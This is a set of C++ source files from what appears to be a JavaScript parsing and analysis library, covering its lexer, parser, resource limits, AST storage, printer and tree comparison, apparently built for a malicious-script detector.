        for (std::size_t i = 0; i < n->children.size(); ++i) {
          if (i != 0) { emit(","); space(); }
          const Node* prop = n->children[i];
          if (prop->has_flag(Node::kComputed)) {
            emit("[");
            expr(prop->children[0], 1);
            emit("]");
          } else {
            expr_raw(prop->children[0]);
          }
          emit(":");
          space();
          expr(prop->children[1], 1);
        }
        emit("}");
        break;
      case NodeKind::kFunctionDeclaration:
      case NodeKind::kFunctionExpression:
        function(n, n->kind == NodeKind::kFunctionDeclaration);
        break;
      case NodeKind::kArrowFunctionExpression: {
        emit("(");
        const std::size_t nparams = n->children.size() - 1;
        for (std::size_t i = 0; i < nparams; ++i) {
          if (i != 0) { emit(","); space(); }
          emit(n->children[i]->str);
        }
        emit(")");
        space();
        emit("=>");
        space();
        block(n->children.back());
        break;
      }
      case NodeKind::kSequenceExpression:
        for (std::size_t i = 0; i < n->children.size(); ++i) {
          if (i != 0) { emit(","); space(); }
          expr(n->children[i], 1);
        }
        break;
      case NodeKind::kUnaryExpression: {
        emit(n->str);
        const bool word = n->str.size() > 2;  // typeof / void / delete
        if (word) emit(" ");
        // Avoid `- -x` gluing into `--x` (also `- --x`, `-(-5)` literals).
        expr_glue_guarded(n->children[0], 13);
        break;
      }
      case NodeKind::kUpdateExpression:
        if (n->has_flag(Node::kPrefix)) {
          emit(n->str);
          expr(n->children[0], 13);
        } else {
          expr(n->children[0], 14);
          emit(n->str);
        }
        break;
      case NodeKind::kBinaryExpression:
      case NodeKind::kLogicalExpression: {
        const int prec = expr_precedence(n);
        const std::size_t lstart = out_.size();
        expr(n->children[0], prec);
        // A left operand ending in `}` (function/arrow/object expression)
        // makes a following `/` re-lex as a regex start; parenthesize it so
        // the lexer sees `)` before the operator and picks division.
        if (n->str[0] == '/' && out_.size() > lstart && out_.back() == '}') {
          out_.insert(lstart, 1, '(');
          emit(")");
        }
        const bool word = n->str == "in" || n->str == "instanceof";
        if (word) emit(" "); else space();
        sep_before(n->str[0]);  // `/re/ / x` must not minify to `/re//x`
        emit(n->str);
        if (word) emit(" "); else space();
        // Left-associative: right operand needs strictly higher precedence.
        // Glue guard: minified `a - -b` must not become `a--b` (and likewise
        // `a + +b`, `a + ++b`, `a / /re/`).
        expr_glue_guarded(n->children[1], prec + 1);
        break;
      }
      case NodeKind::kAssignmentExpression:
        expr(n->children[0], 15);
        space();
        emit(n->str);
        space();
        expr(n->children[1], 1);
        break;
      case NodeKind::kConditionalExpression:
        expr(n->children[0], 3);
        space();
        emit("?");
        space();
        expr(n->children[1], 1);
        space();
        emit(":");
        space();
        expr(n->children[2], 1);
        break;
      case NodeKind::kMemberExpression:
        // `(758).length` must not print as `758.length`: the lexer would
        // absorb the dot into the number token. Parenthesize integer-literal
        // objects of dotted access.
        if (!n->has_flag(Node::kComputed) &&
            n->children[0]->kind == NodeKind::kLiteral &&
            n->children[0]->lit == LiteralType::kNumber) {
          emit("(");
          expr(n->children[0], 0);
          emit(")");
        } else {
          expr(n->children[0], 17);
        }
        if (n->has_flag(Node::kComputed)) {
          emit("[");
          expr(n->children[1], 0);
          emit("]");
        } else {
          emit(".");
          emit(n->children[1]->str);
        }
        break;
      case NodeKind::kCallExpression:
        expr(n->children[0], 16);
        emit("(");
        for (std::size_t i = 1; i < n->children.size(); ++i) {
          if (i != 1) { emit(","); space(); }
          expr(n->children[i], 1);
        }
        emit(")");
        break;
      case NodeKind::kNewExpression:
        emit("new ");
        expr(n->children[0], 17);
        emit("(");
        for (std::size_t i = 1; i < n->children.size(); ++i) {
          if (i != 1) { emit(","); space(); }
          expr(n->children[i], 1);
        }
        emit(")");
        break;
      default:
        // A statement node in expression position is a logic error upstream;
        // print it defensively so the output stays inspectable.
        emit("/*stmt*/");
        break;
    }
  }

  bool min_;
  int indent_ = 0;
  std::string out_;
};

}  // namespace

std::string print(const Node* root, PrintStyle style) {
  return Printer(style).run(root);
}

}  // namespace jsrev::js
