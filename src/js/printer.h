// AST-to-source code generator with precedence-aware parenthesization.
//
// Two output styles: kPretty (indented, one statement per line) and
// kMinified (no insignificant whitespace) — the latter models the
// minification commonly applied to in-the-wild benign scripts.
#pragma once

#include <string>

#include "js/ast.h"

namespace jsrev::js {

enum class PrintStyle { kPretty, kMinified };

/// Renders the subtree at `root` back to JavaScript source. The output is
/// guaranteed to re-parse to a structurally identical tree (round-trip
/// property, enforced by tests).
std::string print(const Node* root, PrintStyle style = PrintStyle::kPretty);

}  // namespace jsrev::js
