// Resource limits for the JavaScript frontend.
//
// The lexer and parser process adversarial, untrusted input (heavily
// obfuscated scripts routinely carry pathological nesting; cf. "From
// Obfuscated to Obvious" in PAPERS.md), so resource exhaustion must fail the
// same way malformed syntax does: as a LexError/ParseError the caller can
// catch — never a stack overflow or an unbounded allocation that takes the
// serving process down. ScriptAnalysis converts those errors into its
// parse-failed-as-a-value state, which the centralized "unparseable ⇒
// malicious" convention (kUnparseableVerdict) then routes like any other
// frontend rejection.
//
// Defaults are deliberately generous — orders of magnitude above anything the
// corpus generator or the obfuscators emit — so they only trip on inputs that
// would genuinely endanger the process. Override per-pipeline through
// core::Config::parse_limits.
#pragma once

#include <cstddef>

namespace jsrev::js {

struct ParseLimits {
  /// Maximum nesting depth of recursive grammar constructs (statements,
  /// expressions, unary chains, `new` chains). The recursive-descent parser
  /// burns a handful of stack frames per level, so this bounds stack growth;
  /// exceeding it throws ParseError, not SIGSEGV. 1000 levels is far beyond
  /// human- or obfuscator-written code (the deepest generator output nests
  /// tens of levels).
  std::size_t max_recursion_depth = 1000;

  /// Maximum source size in bytes the lexer accepts (LexError beyond).
  /// 32 MiB: the largest real-world scripts are low single-digit MiB.
  std::size_t max_source_bytes = 32u * 1024u * 1024u;

  /// Maximum number of tokens the lexer materializes (LexError beyond).
  /// Bounds token-vector memory independently of source size.
  std::size_t max_token_count = 4u * 1000u * 1000u;
};

}  // namespace jsrev::js
