// Hand-written JavaScript lexer (ES5 plus the ES2015 subset the parser
// supports: let/const, arrow =>, template literals without substitutions).
//
// The lexer performs regex-vs-division disambiguation based on the previous
// significant token, tracks preceding line terminators for automatic
// semicolon insertion, and decodes string escapes.
#pragma once

#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "js/parse_limits.h"
#include "js/token.h"

namespace jsrev::js {

/// Thrown on malformed input (unterminated string, bad escape, ...).
class LexError : public std::runtime_error {
 public:
  LexError(const std::string& message, std::uint32_t line)
      : std::runtime_error("lex error at line " + std::to_string(line) + ": " +
                           message),
        line_(line) {}

  std::uint32_t line() const noexcept { return line_; }

 private:
  std::uint32_t line_;
};

class Lexer {
 public:
  explicit Lexer(std::string_view source, const ParseLimits& limits = {});

  /// Tokenizes the whole input, ending with a kEof token. Throws LexError on
  /// malformed input or when a ParseLimits resource bound is exceeded
  /// (source too large, too many tokens).
  std::vector<Token> tokenize();

 private:
  Token next_token();
  void skip_whitespace_and_comments();

  Token lex_identifier_or_keyword();
  Token lex_number();
  Token lex_string(char quote);
  Token lex_template();
  Token lex_regex();
  Token lex_punctuator();

  bool regex_allowed() const;

  char peek(std::size_t ahead = 0) const {
    return pos_ + ahead < src_.size() ? src_[pos_ + ahead] : '\0';
  }
  char advance() { return src_[pos_++]; }
  bool eof() const { return pos_ >= src_.size(); }

  [[noreturn]] void fail(const std::string& message) const {
    throw LexError(message, line_);
  }

  std::string_view src_;
  ParseLimits limits_;
  std::size_t pos_ = 0;
  std::uint32_t line_ = 1;
  bool newline_pending_ = false;
  const Token* prev_ = nullptr;  // last significant token (regex context)
  std::vector<Token> out_;
};

/// True if `word` is a JavaScript reserved word in our dialect.
bool is_keyword(std::string_view word) noexcept;

}  // namespace jsrev::js
