// Recursive-descent JavaScript parser producing the ESTree-style AST.
//
// Dialect: full ES5 (all statements and expressions, automatic semicolon
// insertion, regex literals) plus the ES2015 subset encountered in real-world
// corpora that the obfuscators and generators emit: let/const, arrow
// functions, template literals without substitutions, and for-of.
#pragma once

#include <cstdint>
#include <stdexcept>
#include <string>
#include <string_view>

#include "js/ast.h"
#include "js/parse_limits.h"
#include "js/token.h"

namespace jsrev::js {

class ParseError : public std::runtime_error {
 public:
  ParseError(const std::string& message, std::uint32_t line)
      : std::runtime_error("parse error at line " + std::to_string(line) +
                           ": " + message),
        line_(line) {}

  std::uint32_t line() const noexcept { return line_; }

 private:
  std::uint32_t line_;
};

/// Parses `source` into a finalized AST (ids and parent links assigned).
/// Throws LexError or ParseError on malformed input. Resource exhaustion
/// (nesting beyond `limits.max_recursion_depth`, oversized input, token
/// explosion) throws the same structured errors instead of crashing, so
/// adversarially nested input degrades into the ordinary parse-failure path.
Ast parse(std::string_view source, const ParseLimits& limits);
Ast parse(std::string_view source);  // default ParseLimits

/// Process-wide count of parse() invocations (monotonic, thread-safe).
/// Instrumentation for the parse-once ScriptAnalysis layer: the analysis
/// cache bench and tests assert a multi-detector evaluation parses each
/// script exactly once. A shim over the `js.parse.invocations` counter in
/// the obs metrics registry (the former bespoke atomic is deprecated and
/// gone); note the count pauses while obs::set_metrics_enabled(false).
std::uint64_t parse_invocations() noexcept;

/// Returns true if `source` parses without error.
bool parses_ok(std::string_view source) noexcept;
bool parses_ok(std::string_view source, const ParseLimits& limits) noexcept;

}  // namespace jsrev::js
