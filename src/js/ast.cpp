#include "js/ast.h"

#include <utility>
#include <vector>

#include "obs/metrics.h"

namespace jsrev::js {

std::string_view node_kind_name(NodeKind k) noexcept {
  switch (k) {
    case NodeKind::kProgram: return "Program";
    case NodeKind::kIdentifier: return "Identifier";
    case NodeKind::kLiteral: return "Literal";
    case NodeKind::kArrayExpression: return "ArrayExpression";
    case NodeKind::kObjectExpression: return "ObjectExpression";
    case NodeKind::kProperty: return "Property";
    case NodeKind::kFunctionDeclaration: return "FunctionDeclaration";
    case NodeKind::kFunctionExpression: return "FunctionExpression";
    case NodeKind::kArrowFunctionExpression: return "ArrowFunctionExpression";
    case NodeKind::kSequenceExpression: return "SequenceExpression";
    case NodeKind::kUnaryExpression: return "UnaryExpression";
    case NodeKind::kUpdateExpression: return "UpdateExpression";
    case NodeKind::kBinaryExpression: return "BinaryExpression";
    case NodeKind::kAssignmentExpression: return "AssignmentExpression";
    case NodeKind::kLogicalExpression: return "LogicalExpression";
    case NodeKind::kMemberExpression: return "MemberExpression";
    case NodeKind::kConditionalExpression: return "ConditionalExpression";
    case NodeKind::kCallExpression: return "CallExpression";
    case NodeKind::kNewExpression: return "NewExpression";
    case NodeKind::kThisExpression: return "ThisExpression";
    case NodeKind::kBlockStatement: return "BlockStatement";
    case NodeKind::kExpressionStatement: return "ExpressionStatement";
    case NodeKind::kIfStatement: return "IfStatement";
    case NodeKind::kLabeledStatement: return "LabeledStatement";
    case NodeKind::kBreakStatement: return "BreakStatement";
    case NodeKind::kContinueStatement: return "ContinueStatement";
    case NodeKind::kWithStatement: return "WithStatement";
    case NodeKind::kSwitchStatement: return "SwitchStatement";
    case NodeKind::kSwitchCase: return "SwitchCase";
    case NodeKind::kReturnStatement: return "ReturnStatement";
    case NodeKind::kThrowStatement: return "ThrowStatement";
    case NodeKind::kTryStatement: return "TryStatement";
    case NodeKind::kCatchClause: return "CatchClause";
    case NodeKind::kWhileStatement: return "WhileStatement";
    case NodeKind::kDoWhileStatement: return "DoWhileStatement";
    case NodeKind::kForStatement: return "ForStatement";
    case NodeKind::kForInStatement: return "ForInStatement";
    case NodeKind::kVariableDeclaration: return "VariableDeclaration";
    case NodeKind::kVariableDeclarator: return "VariableDeclarator";
    case NodeKind::kEmptyStatement: return "EmptyStatement";
    case NodeKind::kDebuggerStatement: return "DebuggerStatement";
  }
  return "?";
}

namespace {

int finalize_rec(Node* n, Node* parent, int next_id) {
  n->parent = parent;
  n->id = next_id++;
  for (Node* child : n->children) {
    if (child == nullptr) continue;
    next_id = finalize_rec(child, n, next_id);
    if (child->line != 0 && (n->line == 0 || child->line < n->line)) {
      n->line = child->line;
    }
  }
  return next_id;
}

// Cached metric handles (registry pointers are stable for process lifetime).
obs::Counter* nodes_total_counter() {
  static obs::Counter* c = obs::metrics().counter(
      "ast.nodes_total", {},
      {obs::Unit::kCount, false, "AST nodes allocated across all arenas"});
  return c;
}
obs::Gauge* arena_bytes_gauge() {
  static obs::Gauge* g = obs::metrics().gauge(
      "ast.arena_bytes", {},
      {obs::Unit::kBytes, false,
       "Live settled AST arena heap (nodes + child pool + atoms)"});
  return g;
}
obs::Gauge* atom_bytes_gauge() {
  static obs::Gauge* g = obs::metrics().gauge(
      "ast.atom_bytes", {},
      {obs::Unit::kBytes, false, "Live settled atom-table heap"});
  return g;
}

}  // namespace

int finalize_tree(Node* root) {
  if (root == nullptr) return 0;
  return finalize_rec(root, nullptr, 0);
}

void TreeStore::settle_gauges(bool dying) noexcept {
  nodes_total_counter()->add(
      static_cast<std::uint64_t>(total_allocated_ - reported_nodes_));
  reported_nodes_ = total_allocated_;

  const std::size_t bytes = dying ? 0 : memory_bytes();
  const std::size_t atom_bytes = dying ? 0 : atoms_.memory_bytes();
  arena_bytes_gauge()->add(static_cast<std::int64_t>(bytes) -
                           static_cast<std::int64_t>(reported_bytes_));
  atom_bytes_gauge()->add(static_cast<std::int64_t>(atom_bytes) -
                          static_cast<std::int64_t>(reported_atom_bytes_));
  reported_bytes_ = bytes;
  reported_atom_bytes_ = atom_bytes;
}

TreeStore::~TreeStore() { settle_gauges(/*dying=*/true); }

Node* TreeStore::compact(Node* root) {
  if (root == nullptr) return nullptr;

  // Pass 1: count reachable nodes and child slots (holes included) so the
  // fresh buffers can be sized exactly — fresh never reallocates, which is
  // what lets pass 2 hand out parent pointers as it goes.
  std::size_t live = 0;
  std::size_t slots = 0;
  {
    std::vector<Node*> stack{root};
    while (!stack.empty()) {
      Node* x = stack.back();
      stack.pop_back();
      ++live;
      slots += x->children.size();
      for (Node* c : x->children) {
        if (c != nullptr) stack.push_back(c);
      }
    }
  }

  std::vector<Node> fresh;
  fresh.reserve(live);
  std::vector<NodeId> npool;
  npool.reserve(slots);

  // Pass 2: iterative preorder copy. Each emitted node gets slot == preorder
  // id and a contiguous child slice reserved up front; the slice fills in as
  // its children are emitted (so the pool itself is preorder-ordered too).
  struct Frame {
    Node* old;
    std::uint32_t slot;   // slot of the copy in `fresh`
    std::uint32_t slice;  // offset of the copy's child slice in `npool`
    std::uint32_t idx;    // next child to process
  };

  const auto emit = [&](Node* old) -> std::uint32_t {
    const std::uint32_t slot = static_cast<std::uint32_t>(fresh.size());
    fresh.push_back(*old);
    Node& copy = fresh.back();
    copy.self = slot;
    copy.id = static_cast<std::int32_t>(slot);
    const std::uint32_t off = static_cast<std::uint32_t>(npool.size());
    const std::uint32_t len =
        static_cast<std::uint32_t>(old->children.size());
    npool.resize(npool.size() + len, kNullId);
    copy.children.set_slice(off, len, len);
    return slot;
  };

  std::vector<Frame> stack;
  const std::uint32_t root_slot = emit(root);
  fresh[root_slot].parent = nullptr;
  stack.push_back({root, root_slot, fresh[root_slot].children.slice_offset(),
                   0});
  while (!stack.empty()) {
    Frame f = stack.back();
    if (f.idx == f.old->children.size()) {
      stack.pop_back();
      continue;
    }
    ++stack.back().idx;
    Node* c = f.old->children[f.idx];
    if (c == nullptr) continue;  // slice slot already kNullId
    const std::uint32_t cs = emit(c);
    npool[f.slice + f.idx] = cs;
    fresh[cs].parent = &fresh[f.slot];
    stack.push_back({c, cs, fresh[cs].children.slice_offset(), 0});
  }

  // Line propagation (same rule as finalize_tree): walk slots in reverse
  // preorder so every node's subtree minimum has settled before its parent
  // reads it.
  for (std::size_t s = live; s-- > 1;) {
    Node& x = fresh[s];
    if (x.line != 0 &&
        (x.parent->line == 0 || x.line < x.parent->line)) {
      x.parent->line = x.line;
    }
  }

  compact_ = std::move(fresh);
  compact_count_ = static_cast<std::uint32_t>(live);
  pool_ = std::move(npool);
  chunks_.clear();
  overflow_count_ = 0;

  settle_gauges(/*dying=*/false);
  return &compact_[0];
}

}  // namespace jsrev::js
