#include "js/ast.h"

namespace jsrev::js {

std::string_view node_kind_name(NodeKind k) noexcept {
  switch (k) {
    case NodeKind::kProgram: return "Program";
    case NodeKind::kIdentifier: return "Identifier";
    case NodeKind::kLiteral: return "Literal";
    case NodeKind::kArrayExpression: return "ArrayExpression";
    case NodeKind::kObjectExpression: return "ObjectExpression";
    case NodeKind::kProperty: return "Property";
    case NodeKind::kFunctionDeclaration: return "FunctionDeclaration";
    case NodeKind::kFunctionExpression: return "FunctionExpression";
    case NodeKind::kArrowFunctionExpression: return "ArrowFunctionExpression";
    case NodeKind::kSequenceExpression: return "SequenceExpression";
    case NodeKind::kUnaryExpression: return "UnaryExpression";
    case NodeKind::kUpdateExpression: return "UpdateExpression";
    case NodeKind::kBinaryExpression: return "BinaryExpression";
    case NodeKind::kAssignmentExpression: return "AssignmentExpression";
    case NodeKind::kLogicalExpression: return "LogicalExpression";
    case NodeKind::kMemberExpression: return "MemberExpression";
    case NodeKind::kConditionalExpression: return "ConditionalExpression";
    case NodeKind::kCallExpression: return "CallExpression";
    case NodeKind::kNewExpression: return "NewExpression";
    case NodeKind::kThisExpression: return "ThisExpression";
    case NodeKind::kBlockStatement: return "BlockStatement";
    case NodeKind::kExpressionStatement: return "ExpressionStatement";
    case NodeKind::kIfStatement: return "IfStatement";
    case NodeKind::kLabeledStatement: return "LabeledStatement";
    case NodeKind::kBreakStatement: return "BreakStatement";
    case NodeKind::kContinueStatement: return "ContinueStatement";
    case NodeKind::kWithStatement: return "WithStatement";
    case NodeKind::kSwitchStatement: return "SwitchStatement";
    case NodeKind::kSwitchCase: return "SwitchCase";
    case NodeKind::kReturnStatement: return "ReturnStatement";
    case NodeKind::kThrowStatement: return "ThrowStatement";
    case NodeKind::kTryStatement: return "TryStatement";
    case NodeKind::kCatchClause: return "CatchClause";
    case NodeKind::kWhileStatement: return "WhileStatement";
    case NodeKind::kDoWhileStatement: return "DoWhileStatement";
    case NodeKind::kForStatement: return "ForStatement";
    case NodeKind::kForInStatement: return "ForInStatement";
    case NodeKind::kVariableDeclaration: return "VariableDeclaration";
    case NodeKind::kVariableDeclarator: return "VariableDeclarator";
    case NodeKind::kEmptyStatement: return "EmptyStatement";
    case NodeKind::kDebuggerStatement: return "DebuggerStatement";
  }
  return "?";
}

namespace {

int finalize_rec(Node* n, Node* parent, int next_id) {
  n->parent = parent;
  n->id = next_id++;
  for (Node* child : n->children) {
    if (child == nullptr) continue;
    next_id = finalize_rec(child, n, next_id);
    if (child->line != 0 && (n->line == 0 || child->line < n->line)) {
      n->line = child->line;
    }
  }
  return next_id;
}

}  // namespace

int finalize_tree(Node* root) {
  if (root == nullptr) return 0;
  return finalize_rec(root, nullptr, 0);
}

}  // namespace jsrev::js
