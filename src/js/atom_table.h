// Per-arena string interning for AST payloads.
//
// Every identifier name, string-literal value, and operator spelling in a
// tree is stored once in the owning arena's AtomTable; nodes carry a 4-byte
// AtomId instead of a std::string. Equal payloads from the same table share
// an id, so string equality on the hot paths (path extraction, scope
// resolution, ast_fingerprint) is an integer compare, and the table caches
// each payload's fnv1a64 so fingerprinting never rehashes a string.
//
// Layout: one concatenated byte buffer plus an (offset, length, hash) entry
// per atom, indexed by an open-addressing hash table. Ids are dense and
// stable for the table's lifetime; id 0 is always the empty string.
#pragma once

#include <cstdint>
#include <string_view>
#include <vector>

#include "util/hash.h"

namespace jsrev::js {

using AtomId = std::uint32_t;

class AtomTable {
 public:
  AtomTable() { intern({}); }  // id 0 = ""
  AtomTable(const AtomTable&) = delete;
  AtomTable& operator=(const AtomTable&) = delete;

  /// Returns the id of `s`, interning it on first sight. Ids are assigned
  /// densely in first-sight order.
  AtomId intern(std::string_view s) {
    const std::uint64_t h = fnv1a64(s);
    if (entries_.size() >= (slots_.size() >> 1)) grow();
    const std::size_t mask = slots_.size() - 1;
    std::size_t i = static_cast<std::size_t>(h) & mask;
    while (slots_[i] != kEmptySlot) {
      const Entry& e = entries_[slots_[i]];
      if (e.hash == h && view_of(e) == s) return slots_[i];
      i = (i + 1) & mask;
    }
    const AtomId id = static_cast<AtomId>(entries_.size());
    entries_.push_back(Entry{static_cast<std::uint32_t>(bytes_.size()),
                             static_cast<std::uint32_t>(s.size()), h});
    bytes_.insert(bytes_.end(), s.begin(), s.end());
    slots_[i] = id;
    return id;
  }

  std::string_view view(AtomId id) const noexcept {
    return view_of(entries_[id]);
  }

  /// Cached fnv1a64 of the atom's payload (same value fnv1a64(view(id))
  /// returns; ast_fingerprint relies on the equivalence).
  std::uint64_t hash(AtomId id) const noexcept { return entries_[id].hash; }

  std::uint32_t length(AtomId id) const noexcept { return entries_[id].len; }

  std::size_t size() const noexcept { return entries_.size(); }

  /// Payload bytes held (the interned text itself, excluding index overhead).
  std::size_t payload_bytes() const noexcept { return bytes_.size(); }

  /// Total heap footprint: payloads + entry records + hash slots.
  std::size_t memory_bytes() const noexcept {
    return bytes_.capacity() + entries_.capacity() * sizeof(Entry) +
           slots_.capacity() * sizeof(AtomId);
  }

  /// Pre-sizes the payload buffer (parser heuristic from source size).
  void reserve_bytes(std::size_t n) { bytes_.reserve(n); }

 private:
  struct Entry {
    std::uint32_t off = 0;
    std::uint32_t len = 0;
    std::uint64_t hash = 0;
  };

  static constexpr AtomId kEmptySlot = 0xFFFFFFFFu;

  std::string_view view_of(const Entry& e) const noexcept {
    return {bytes_.data() + e.off, e.len};
  }

  void grow() {
    const std::size_t cap = slots_.empty() ? 64 : slots_.size() * 2;
    std::vector<AtomId> fresh(cap, kEmptySlot);
    const std::size_t mask = cap - 1;
    for (AtomId id = 0; id < entries_.size(); ++id) {
      std::size_t i = static_cast<std::size_t>(entries_[id].hash) & mask;
      while (fresh[i] != kEmptySlot) i = (i + 1) & mask;
      fresh[i] = id;
    }
    slots_ = std::move(fresh);
  }

  std::vector<char> bytes_;
  std::vector<Entry> entries_;
  std::vector<AtomId> slots_;
};

}  // namespace jsrev::js
