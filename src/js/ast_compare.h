// Structural AST comparison and fingerprinting.
//
// The fuzz/differential harness (tools/jsr_fuzz) and the frontend property
// tests need one shared definition of "same tree": print→reparse must be a
// fixed point up to this equality. Both helpers compare structure only —
// node kind, literal payloads, operator/name strings, flags, and child
// shape (including nullptr slots) — and deliberately ignore the artifacts
// finalize_tree assigns (ids, parent links, source lines), which legitimately
// differ between a parsed original and its reparsed print.
#pragma once

#include <cstdint>

#include "js/ast.h"

namespace jsrev::js {

/// Structural equality of two trees. Either argument may be nullptr (two
/// nullptrs are equal). Iterative — safe on trees of any depth.
bool ast_equal(const Node* a, const Node* b) noexcept;

/// Order-sensitive 64-bit structural fingerprint over the same fields
/// ast_equal compares: equal trees hash identically, and unequal trees
/// collide with ordinary 64-bit-hash probability. Useful for corpus-scale
/// dedup and cheap inequality checks. Iterative — safe on deep trees.
std::uint64_t ast_fingerprint(const Node* root) noexcept;

}  // namespace jsrev::js
