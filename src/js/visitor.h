// Generic AST traversal helpers.
#pragma once

#include <functional>
#include <vector>

#include "js/ast.h"

namespace jsrev::js {

/// Preorder walk over non-null nodes. `fn` returning false prunes the
/// subtree below the node (the node itself is still visited).
inline void walk(Node* root, const std::function<bool(Node*)>& fn) {
  if (root == nullptr) return;
  if (!fn(root)) return;
  for (Node* child : root->children) walk(child, fn);
}

inline void walk(const Node* root, const std::function<bool(const Node*)>& fn) {
  if (root == nullptr) return;
  if (!fn(root)) return;
  for (const Node* child : root->children) walk(child, fn);
}

/// Preorder walk visiting every non-null node (no pruning).
inline void walk_all(const Node* root,
                     const std::function<void(const Node*)>& fn) {
  walk(root, [&fn](const Node* n) {
    fn(n);
    return true;
  });
}

/// Collects every node matching `pred` in preorder.
inline std::vector<Node*> collect(Node* root,
                                  const std::function<bool(Node*)>& pred) {
  std::vector<Node*> out;
  walk(root, [&](Node* n) {
    if (pred(n)) out.push_back(n);
    return true;
  });
  return out;
}

/// Leaves of the tree in source (preorder) order. A leaf is a node with no
/// non-null children. Identifier/Literal nodes are the typical leaves.
inline std::vector<const Node*> leaves(const Node* root) {
  std::vector<const Node*> out;
  walk(root, [&out](const Node* n) {
    bool has_child = false;
    for (const Node* c : n->children) {
      if (c != nullptr) {
        has_child = true;
        break;
      }
    }
    if (!has_child) out.push_back(n);
    return true;
  });
  return out;
}

/// Counts nodes in the subtree.
inline int count_nodes(const Node* root) {
  int n = 0;
  walk_all(root, [&n](const Node*) { ++n; });
  return n;
}

/// Deep-copies `n` (and descendants) into `arena`. Parent/id fields are left
/// unset; run finalize_tree afterwards.
Node* clone(const Node* n, AstArena& arena);

}  // namespace jsrev::js
