// Token model for the JavaScript lexer.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

namespace jsrev::js {

enum class TokenType : std::uint8_t {
  kEof,
  kIdentifier,
  kKeyword,        // reserved words (var, function, if, ...)
  kBooleanLiteral, // true / false
  kNullLiteral,    // null
  kNumericLiteral,
  kStringLiteral,
  kRegexLiteral,
  kTemplateString, // full template literal without substitutions: `...`
  kPunctuator,     // operators and delimiters
};

/// Returns a human-readable name for a token type (diagnostics/tests).
std::string_view token_type_name(TokenType t) noexcept;

struct Token {
  TokenType type = TokenType::kEof;
  std::string value;        // raw lexeme for identifiers/punctuators/keywords
  std::string string_value; // decoded value for string literals
  double numeric_value = 0; // value for numeric literals
  std::uint32_t offset = 0; // byte offset of the first character
  std::uint32_t line = 1;   // 1-based source line
  bool newline_before = false; // a line terminator preceded this token (ASI)
};

}  // namespace jsrev::js
