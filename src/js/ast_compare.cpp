#include "js/ast_compare.h"

#include <cstring>
#include <utility>
#include <vector>

#include "util/hash.h"

namespace jsrev::js {
namespace {

// Per-node payload comparison; children are handled by the traversal.
bool node_payload_equal(const Node* a, const Node* b) noexcept {
  if (a->kind != b->kind || a->lit != b->lit || a->flags != b->flags ||
      a->str != b->str || a->bval != b->bval) {
    return false;
  }
  if (a->lit == LiteralType::kNumber && a->num != b->num) return false;
  return a->children.size() == b->children.size();
}

}  // namespace

bool ast_equal(const Node* a, const Node* b) noexcept {
  // Explicit worklist instead of recursion: comparison must not be the one
  // place that still stack-overflows on a deep tree after the parser itself
  // got a depth guard.
  std::vector<std::pair<const Node*, const Node*>> work{{a, b}};
  while (!work.empty()) {
    const auto [x, y] = work.back();
    work.pop_back();
    if (x == nullptr || y == nullptr) {
      if (x != y) return false;
      continue;
    }
    if (!node_payload_equal(x, y)) return false;
    for (std::size_t i = 0; i < x->children.size(); ++i) {
      work.emplace_back(x->children[i], y->children[i]);
    }
  }
  return true;
}

std::uint64_t ast_fingerprint(const Node* root) noexcept {
  // Preorder traversal hashing each node's payload plus its child count and
  // nullptr-slot markers: that encoding determines the tree shape uniquely,
  // so trees equal under ast_equal fingerprint identically.
  std::uint64_t h = fnv1a64("jsrev-ast-v1");
  std::vector<const Node*> work{root};
  while (!work.empty()) {
    const Node* n = work.back();
    work.pop_back();
    if (n == nullptr) {
      h = hash_combine(h, 0x9e2a5c17ULL);  // hole marker
      continue;
    }
    h = hash_combine(h, static_cast<std::uint64_t>(n->kind));
    h = hash_combine(h, static_cast<std::uint64_t>(n->lit));
    h = hash_combine(h, static_cast<std::uint64_t>(n->flags));
    h = hash_combine(h, static_cast<std::uint64_t>(n->bval));
    h = hash_combine(h, n->str.hash());  // cached fnv1a64 of the payload
    if (n->lit == LiteralType::kNumber) {
      std::uint64_t bits = 0;
      static_assert(sizeof bits == sizeof n->num);
      std::memcpy(&bits, &n->num, sizeof bits);
      h = hash_combine(h, bits);
    }
    h = hash_combine(h, n->children.size());
    // Push in reverse so children pop in order (order-sensitive hash).
    for (std::size_t i = n->children.size(); i > 0; --i) {
      work.push_back(n->children[i - 1]);
    }
  }
  return h;
}

}  // namespace jsrev::js
