// ESTree-style abstract syntax tree over a compact, index-based arena.
//
// Nodes use a uniform representation: a kind tag, a small scalar payload
// (string / number / flags), and an ordered child list whose slot meanings
// are fixed per kind (documented below). The uniform layout keeps generic
// traversal, path extraction, and rewriting transforms simple, at the cost
// of per-kind accessors instead of per-kind structs.
//
// Storage model (the perf-critical part):
//  * All nodes of one tree live in the arena's TreeStore. During building
//    they are allocated from stable fixed-size chunks; AstArena::compact()
//    (run automatically at the end of every parse) rewrites the reachable
//    tree into one contiguous std::vector<Node> in preorder, so `id == self
//    == physical index` and whole-tree walks touch memory linearly.
//    Detached garbage nodes are dropped by compaction.
//  * String payloads are interned in a per-arena AtomTable: Node::str is an
//    Atom — a 4-byte AtomId plus the table pointer — so equal strings share
//    one id and same-arena equality is an integer compare. Atom exposes a
//    std::string-shaped surface (==, +, implicit conversion, begin/end,
//    size/empty/substr) and re-interns on assignment, keeping call sites
//    source-compatible.
//  * Child lists are (offset, length, capacity) slices into one shared
//    std::vector<NodeId> per arena; ChildList exposes the std::vector<Node*>
//    API (push_back, operator[], iteration, insert, ...) as a shim over the
//    slice, so there is no per-node heap allocation at all.
//
// Pointer stability contract: Node* stays valid across arena moves and
// across finalize_tree, but NOT across AstArena::compact() — compact returns
// the relocated root and every other outside pointer must be re-derived.
// The parser compacts before returning, so consumers of parse() always see
// a compact tree; transforms that mutate the tree afterwards allocate from
// fresh chunks and simply re-run finalize_tree (no relocation).
//
// Child slot conventions (slots may be nullptr where marked optional):
//   Program                children = statements
//   Identifier             str = name
//   Literal                lit = literal type; str = string/regex raw,
//                          num = numeric value, bval = bool value
//   ArrayExpression        children = elements (nullptr for holes)
//   ObjectExpression       children = Property nodes
//   Property               children = {key, value}; flag kComputed
//   FunctionDeclaration    str = name; children = {param..., body}
//   FunctionExpression     str = optional name; children = {param..., body}
//   ArrowFunctionExpression children = {param..., body}
//   SequenceExpression     children = expressions
//   UnaryExpression        str = operator; children = {argument}
//   UpdateExpression       str = operator; flag kPrefix; children = {argument}
//   BinaryExpression       str = operator; children = {left, right}
//   AssignmentExpression   str = operator; children = {left, right}
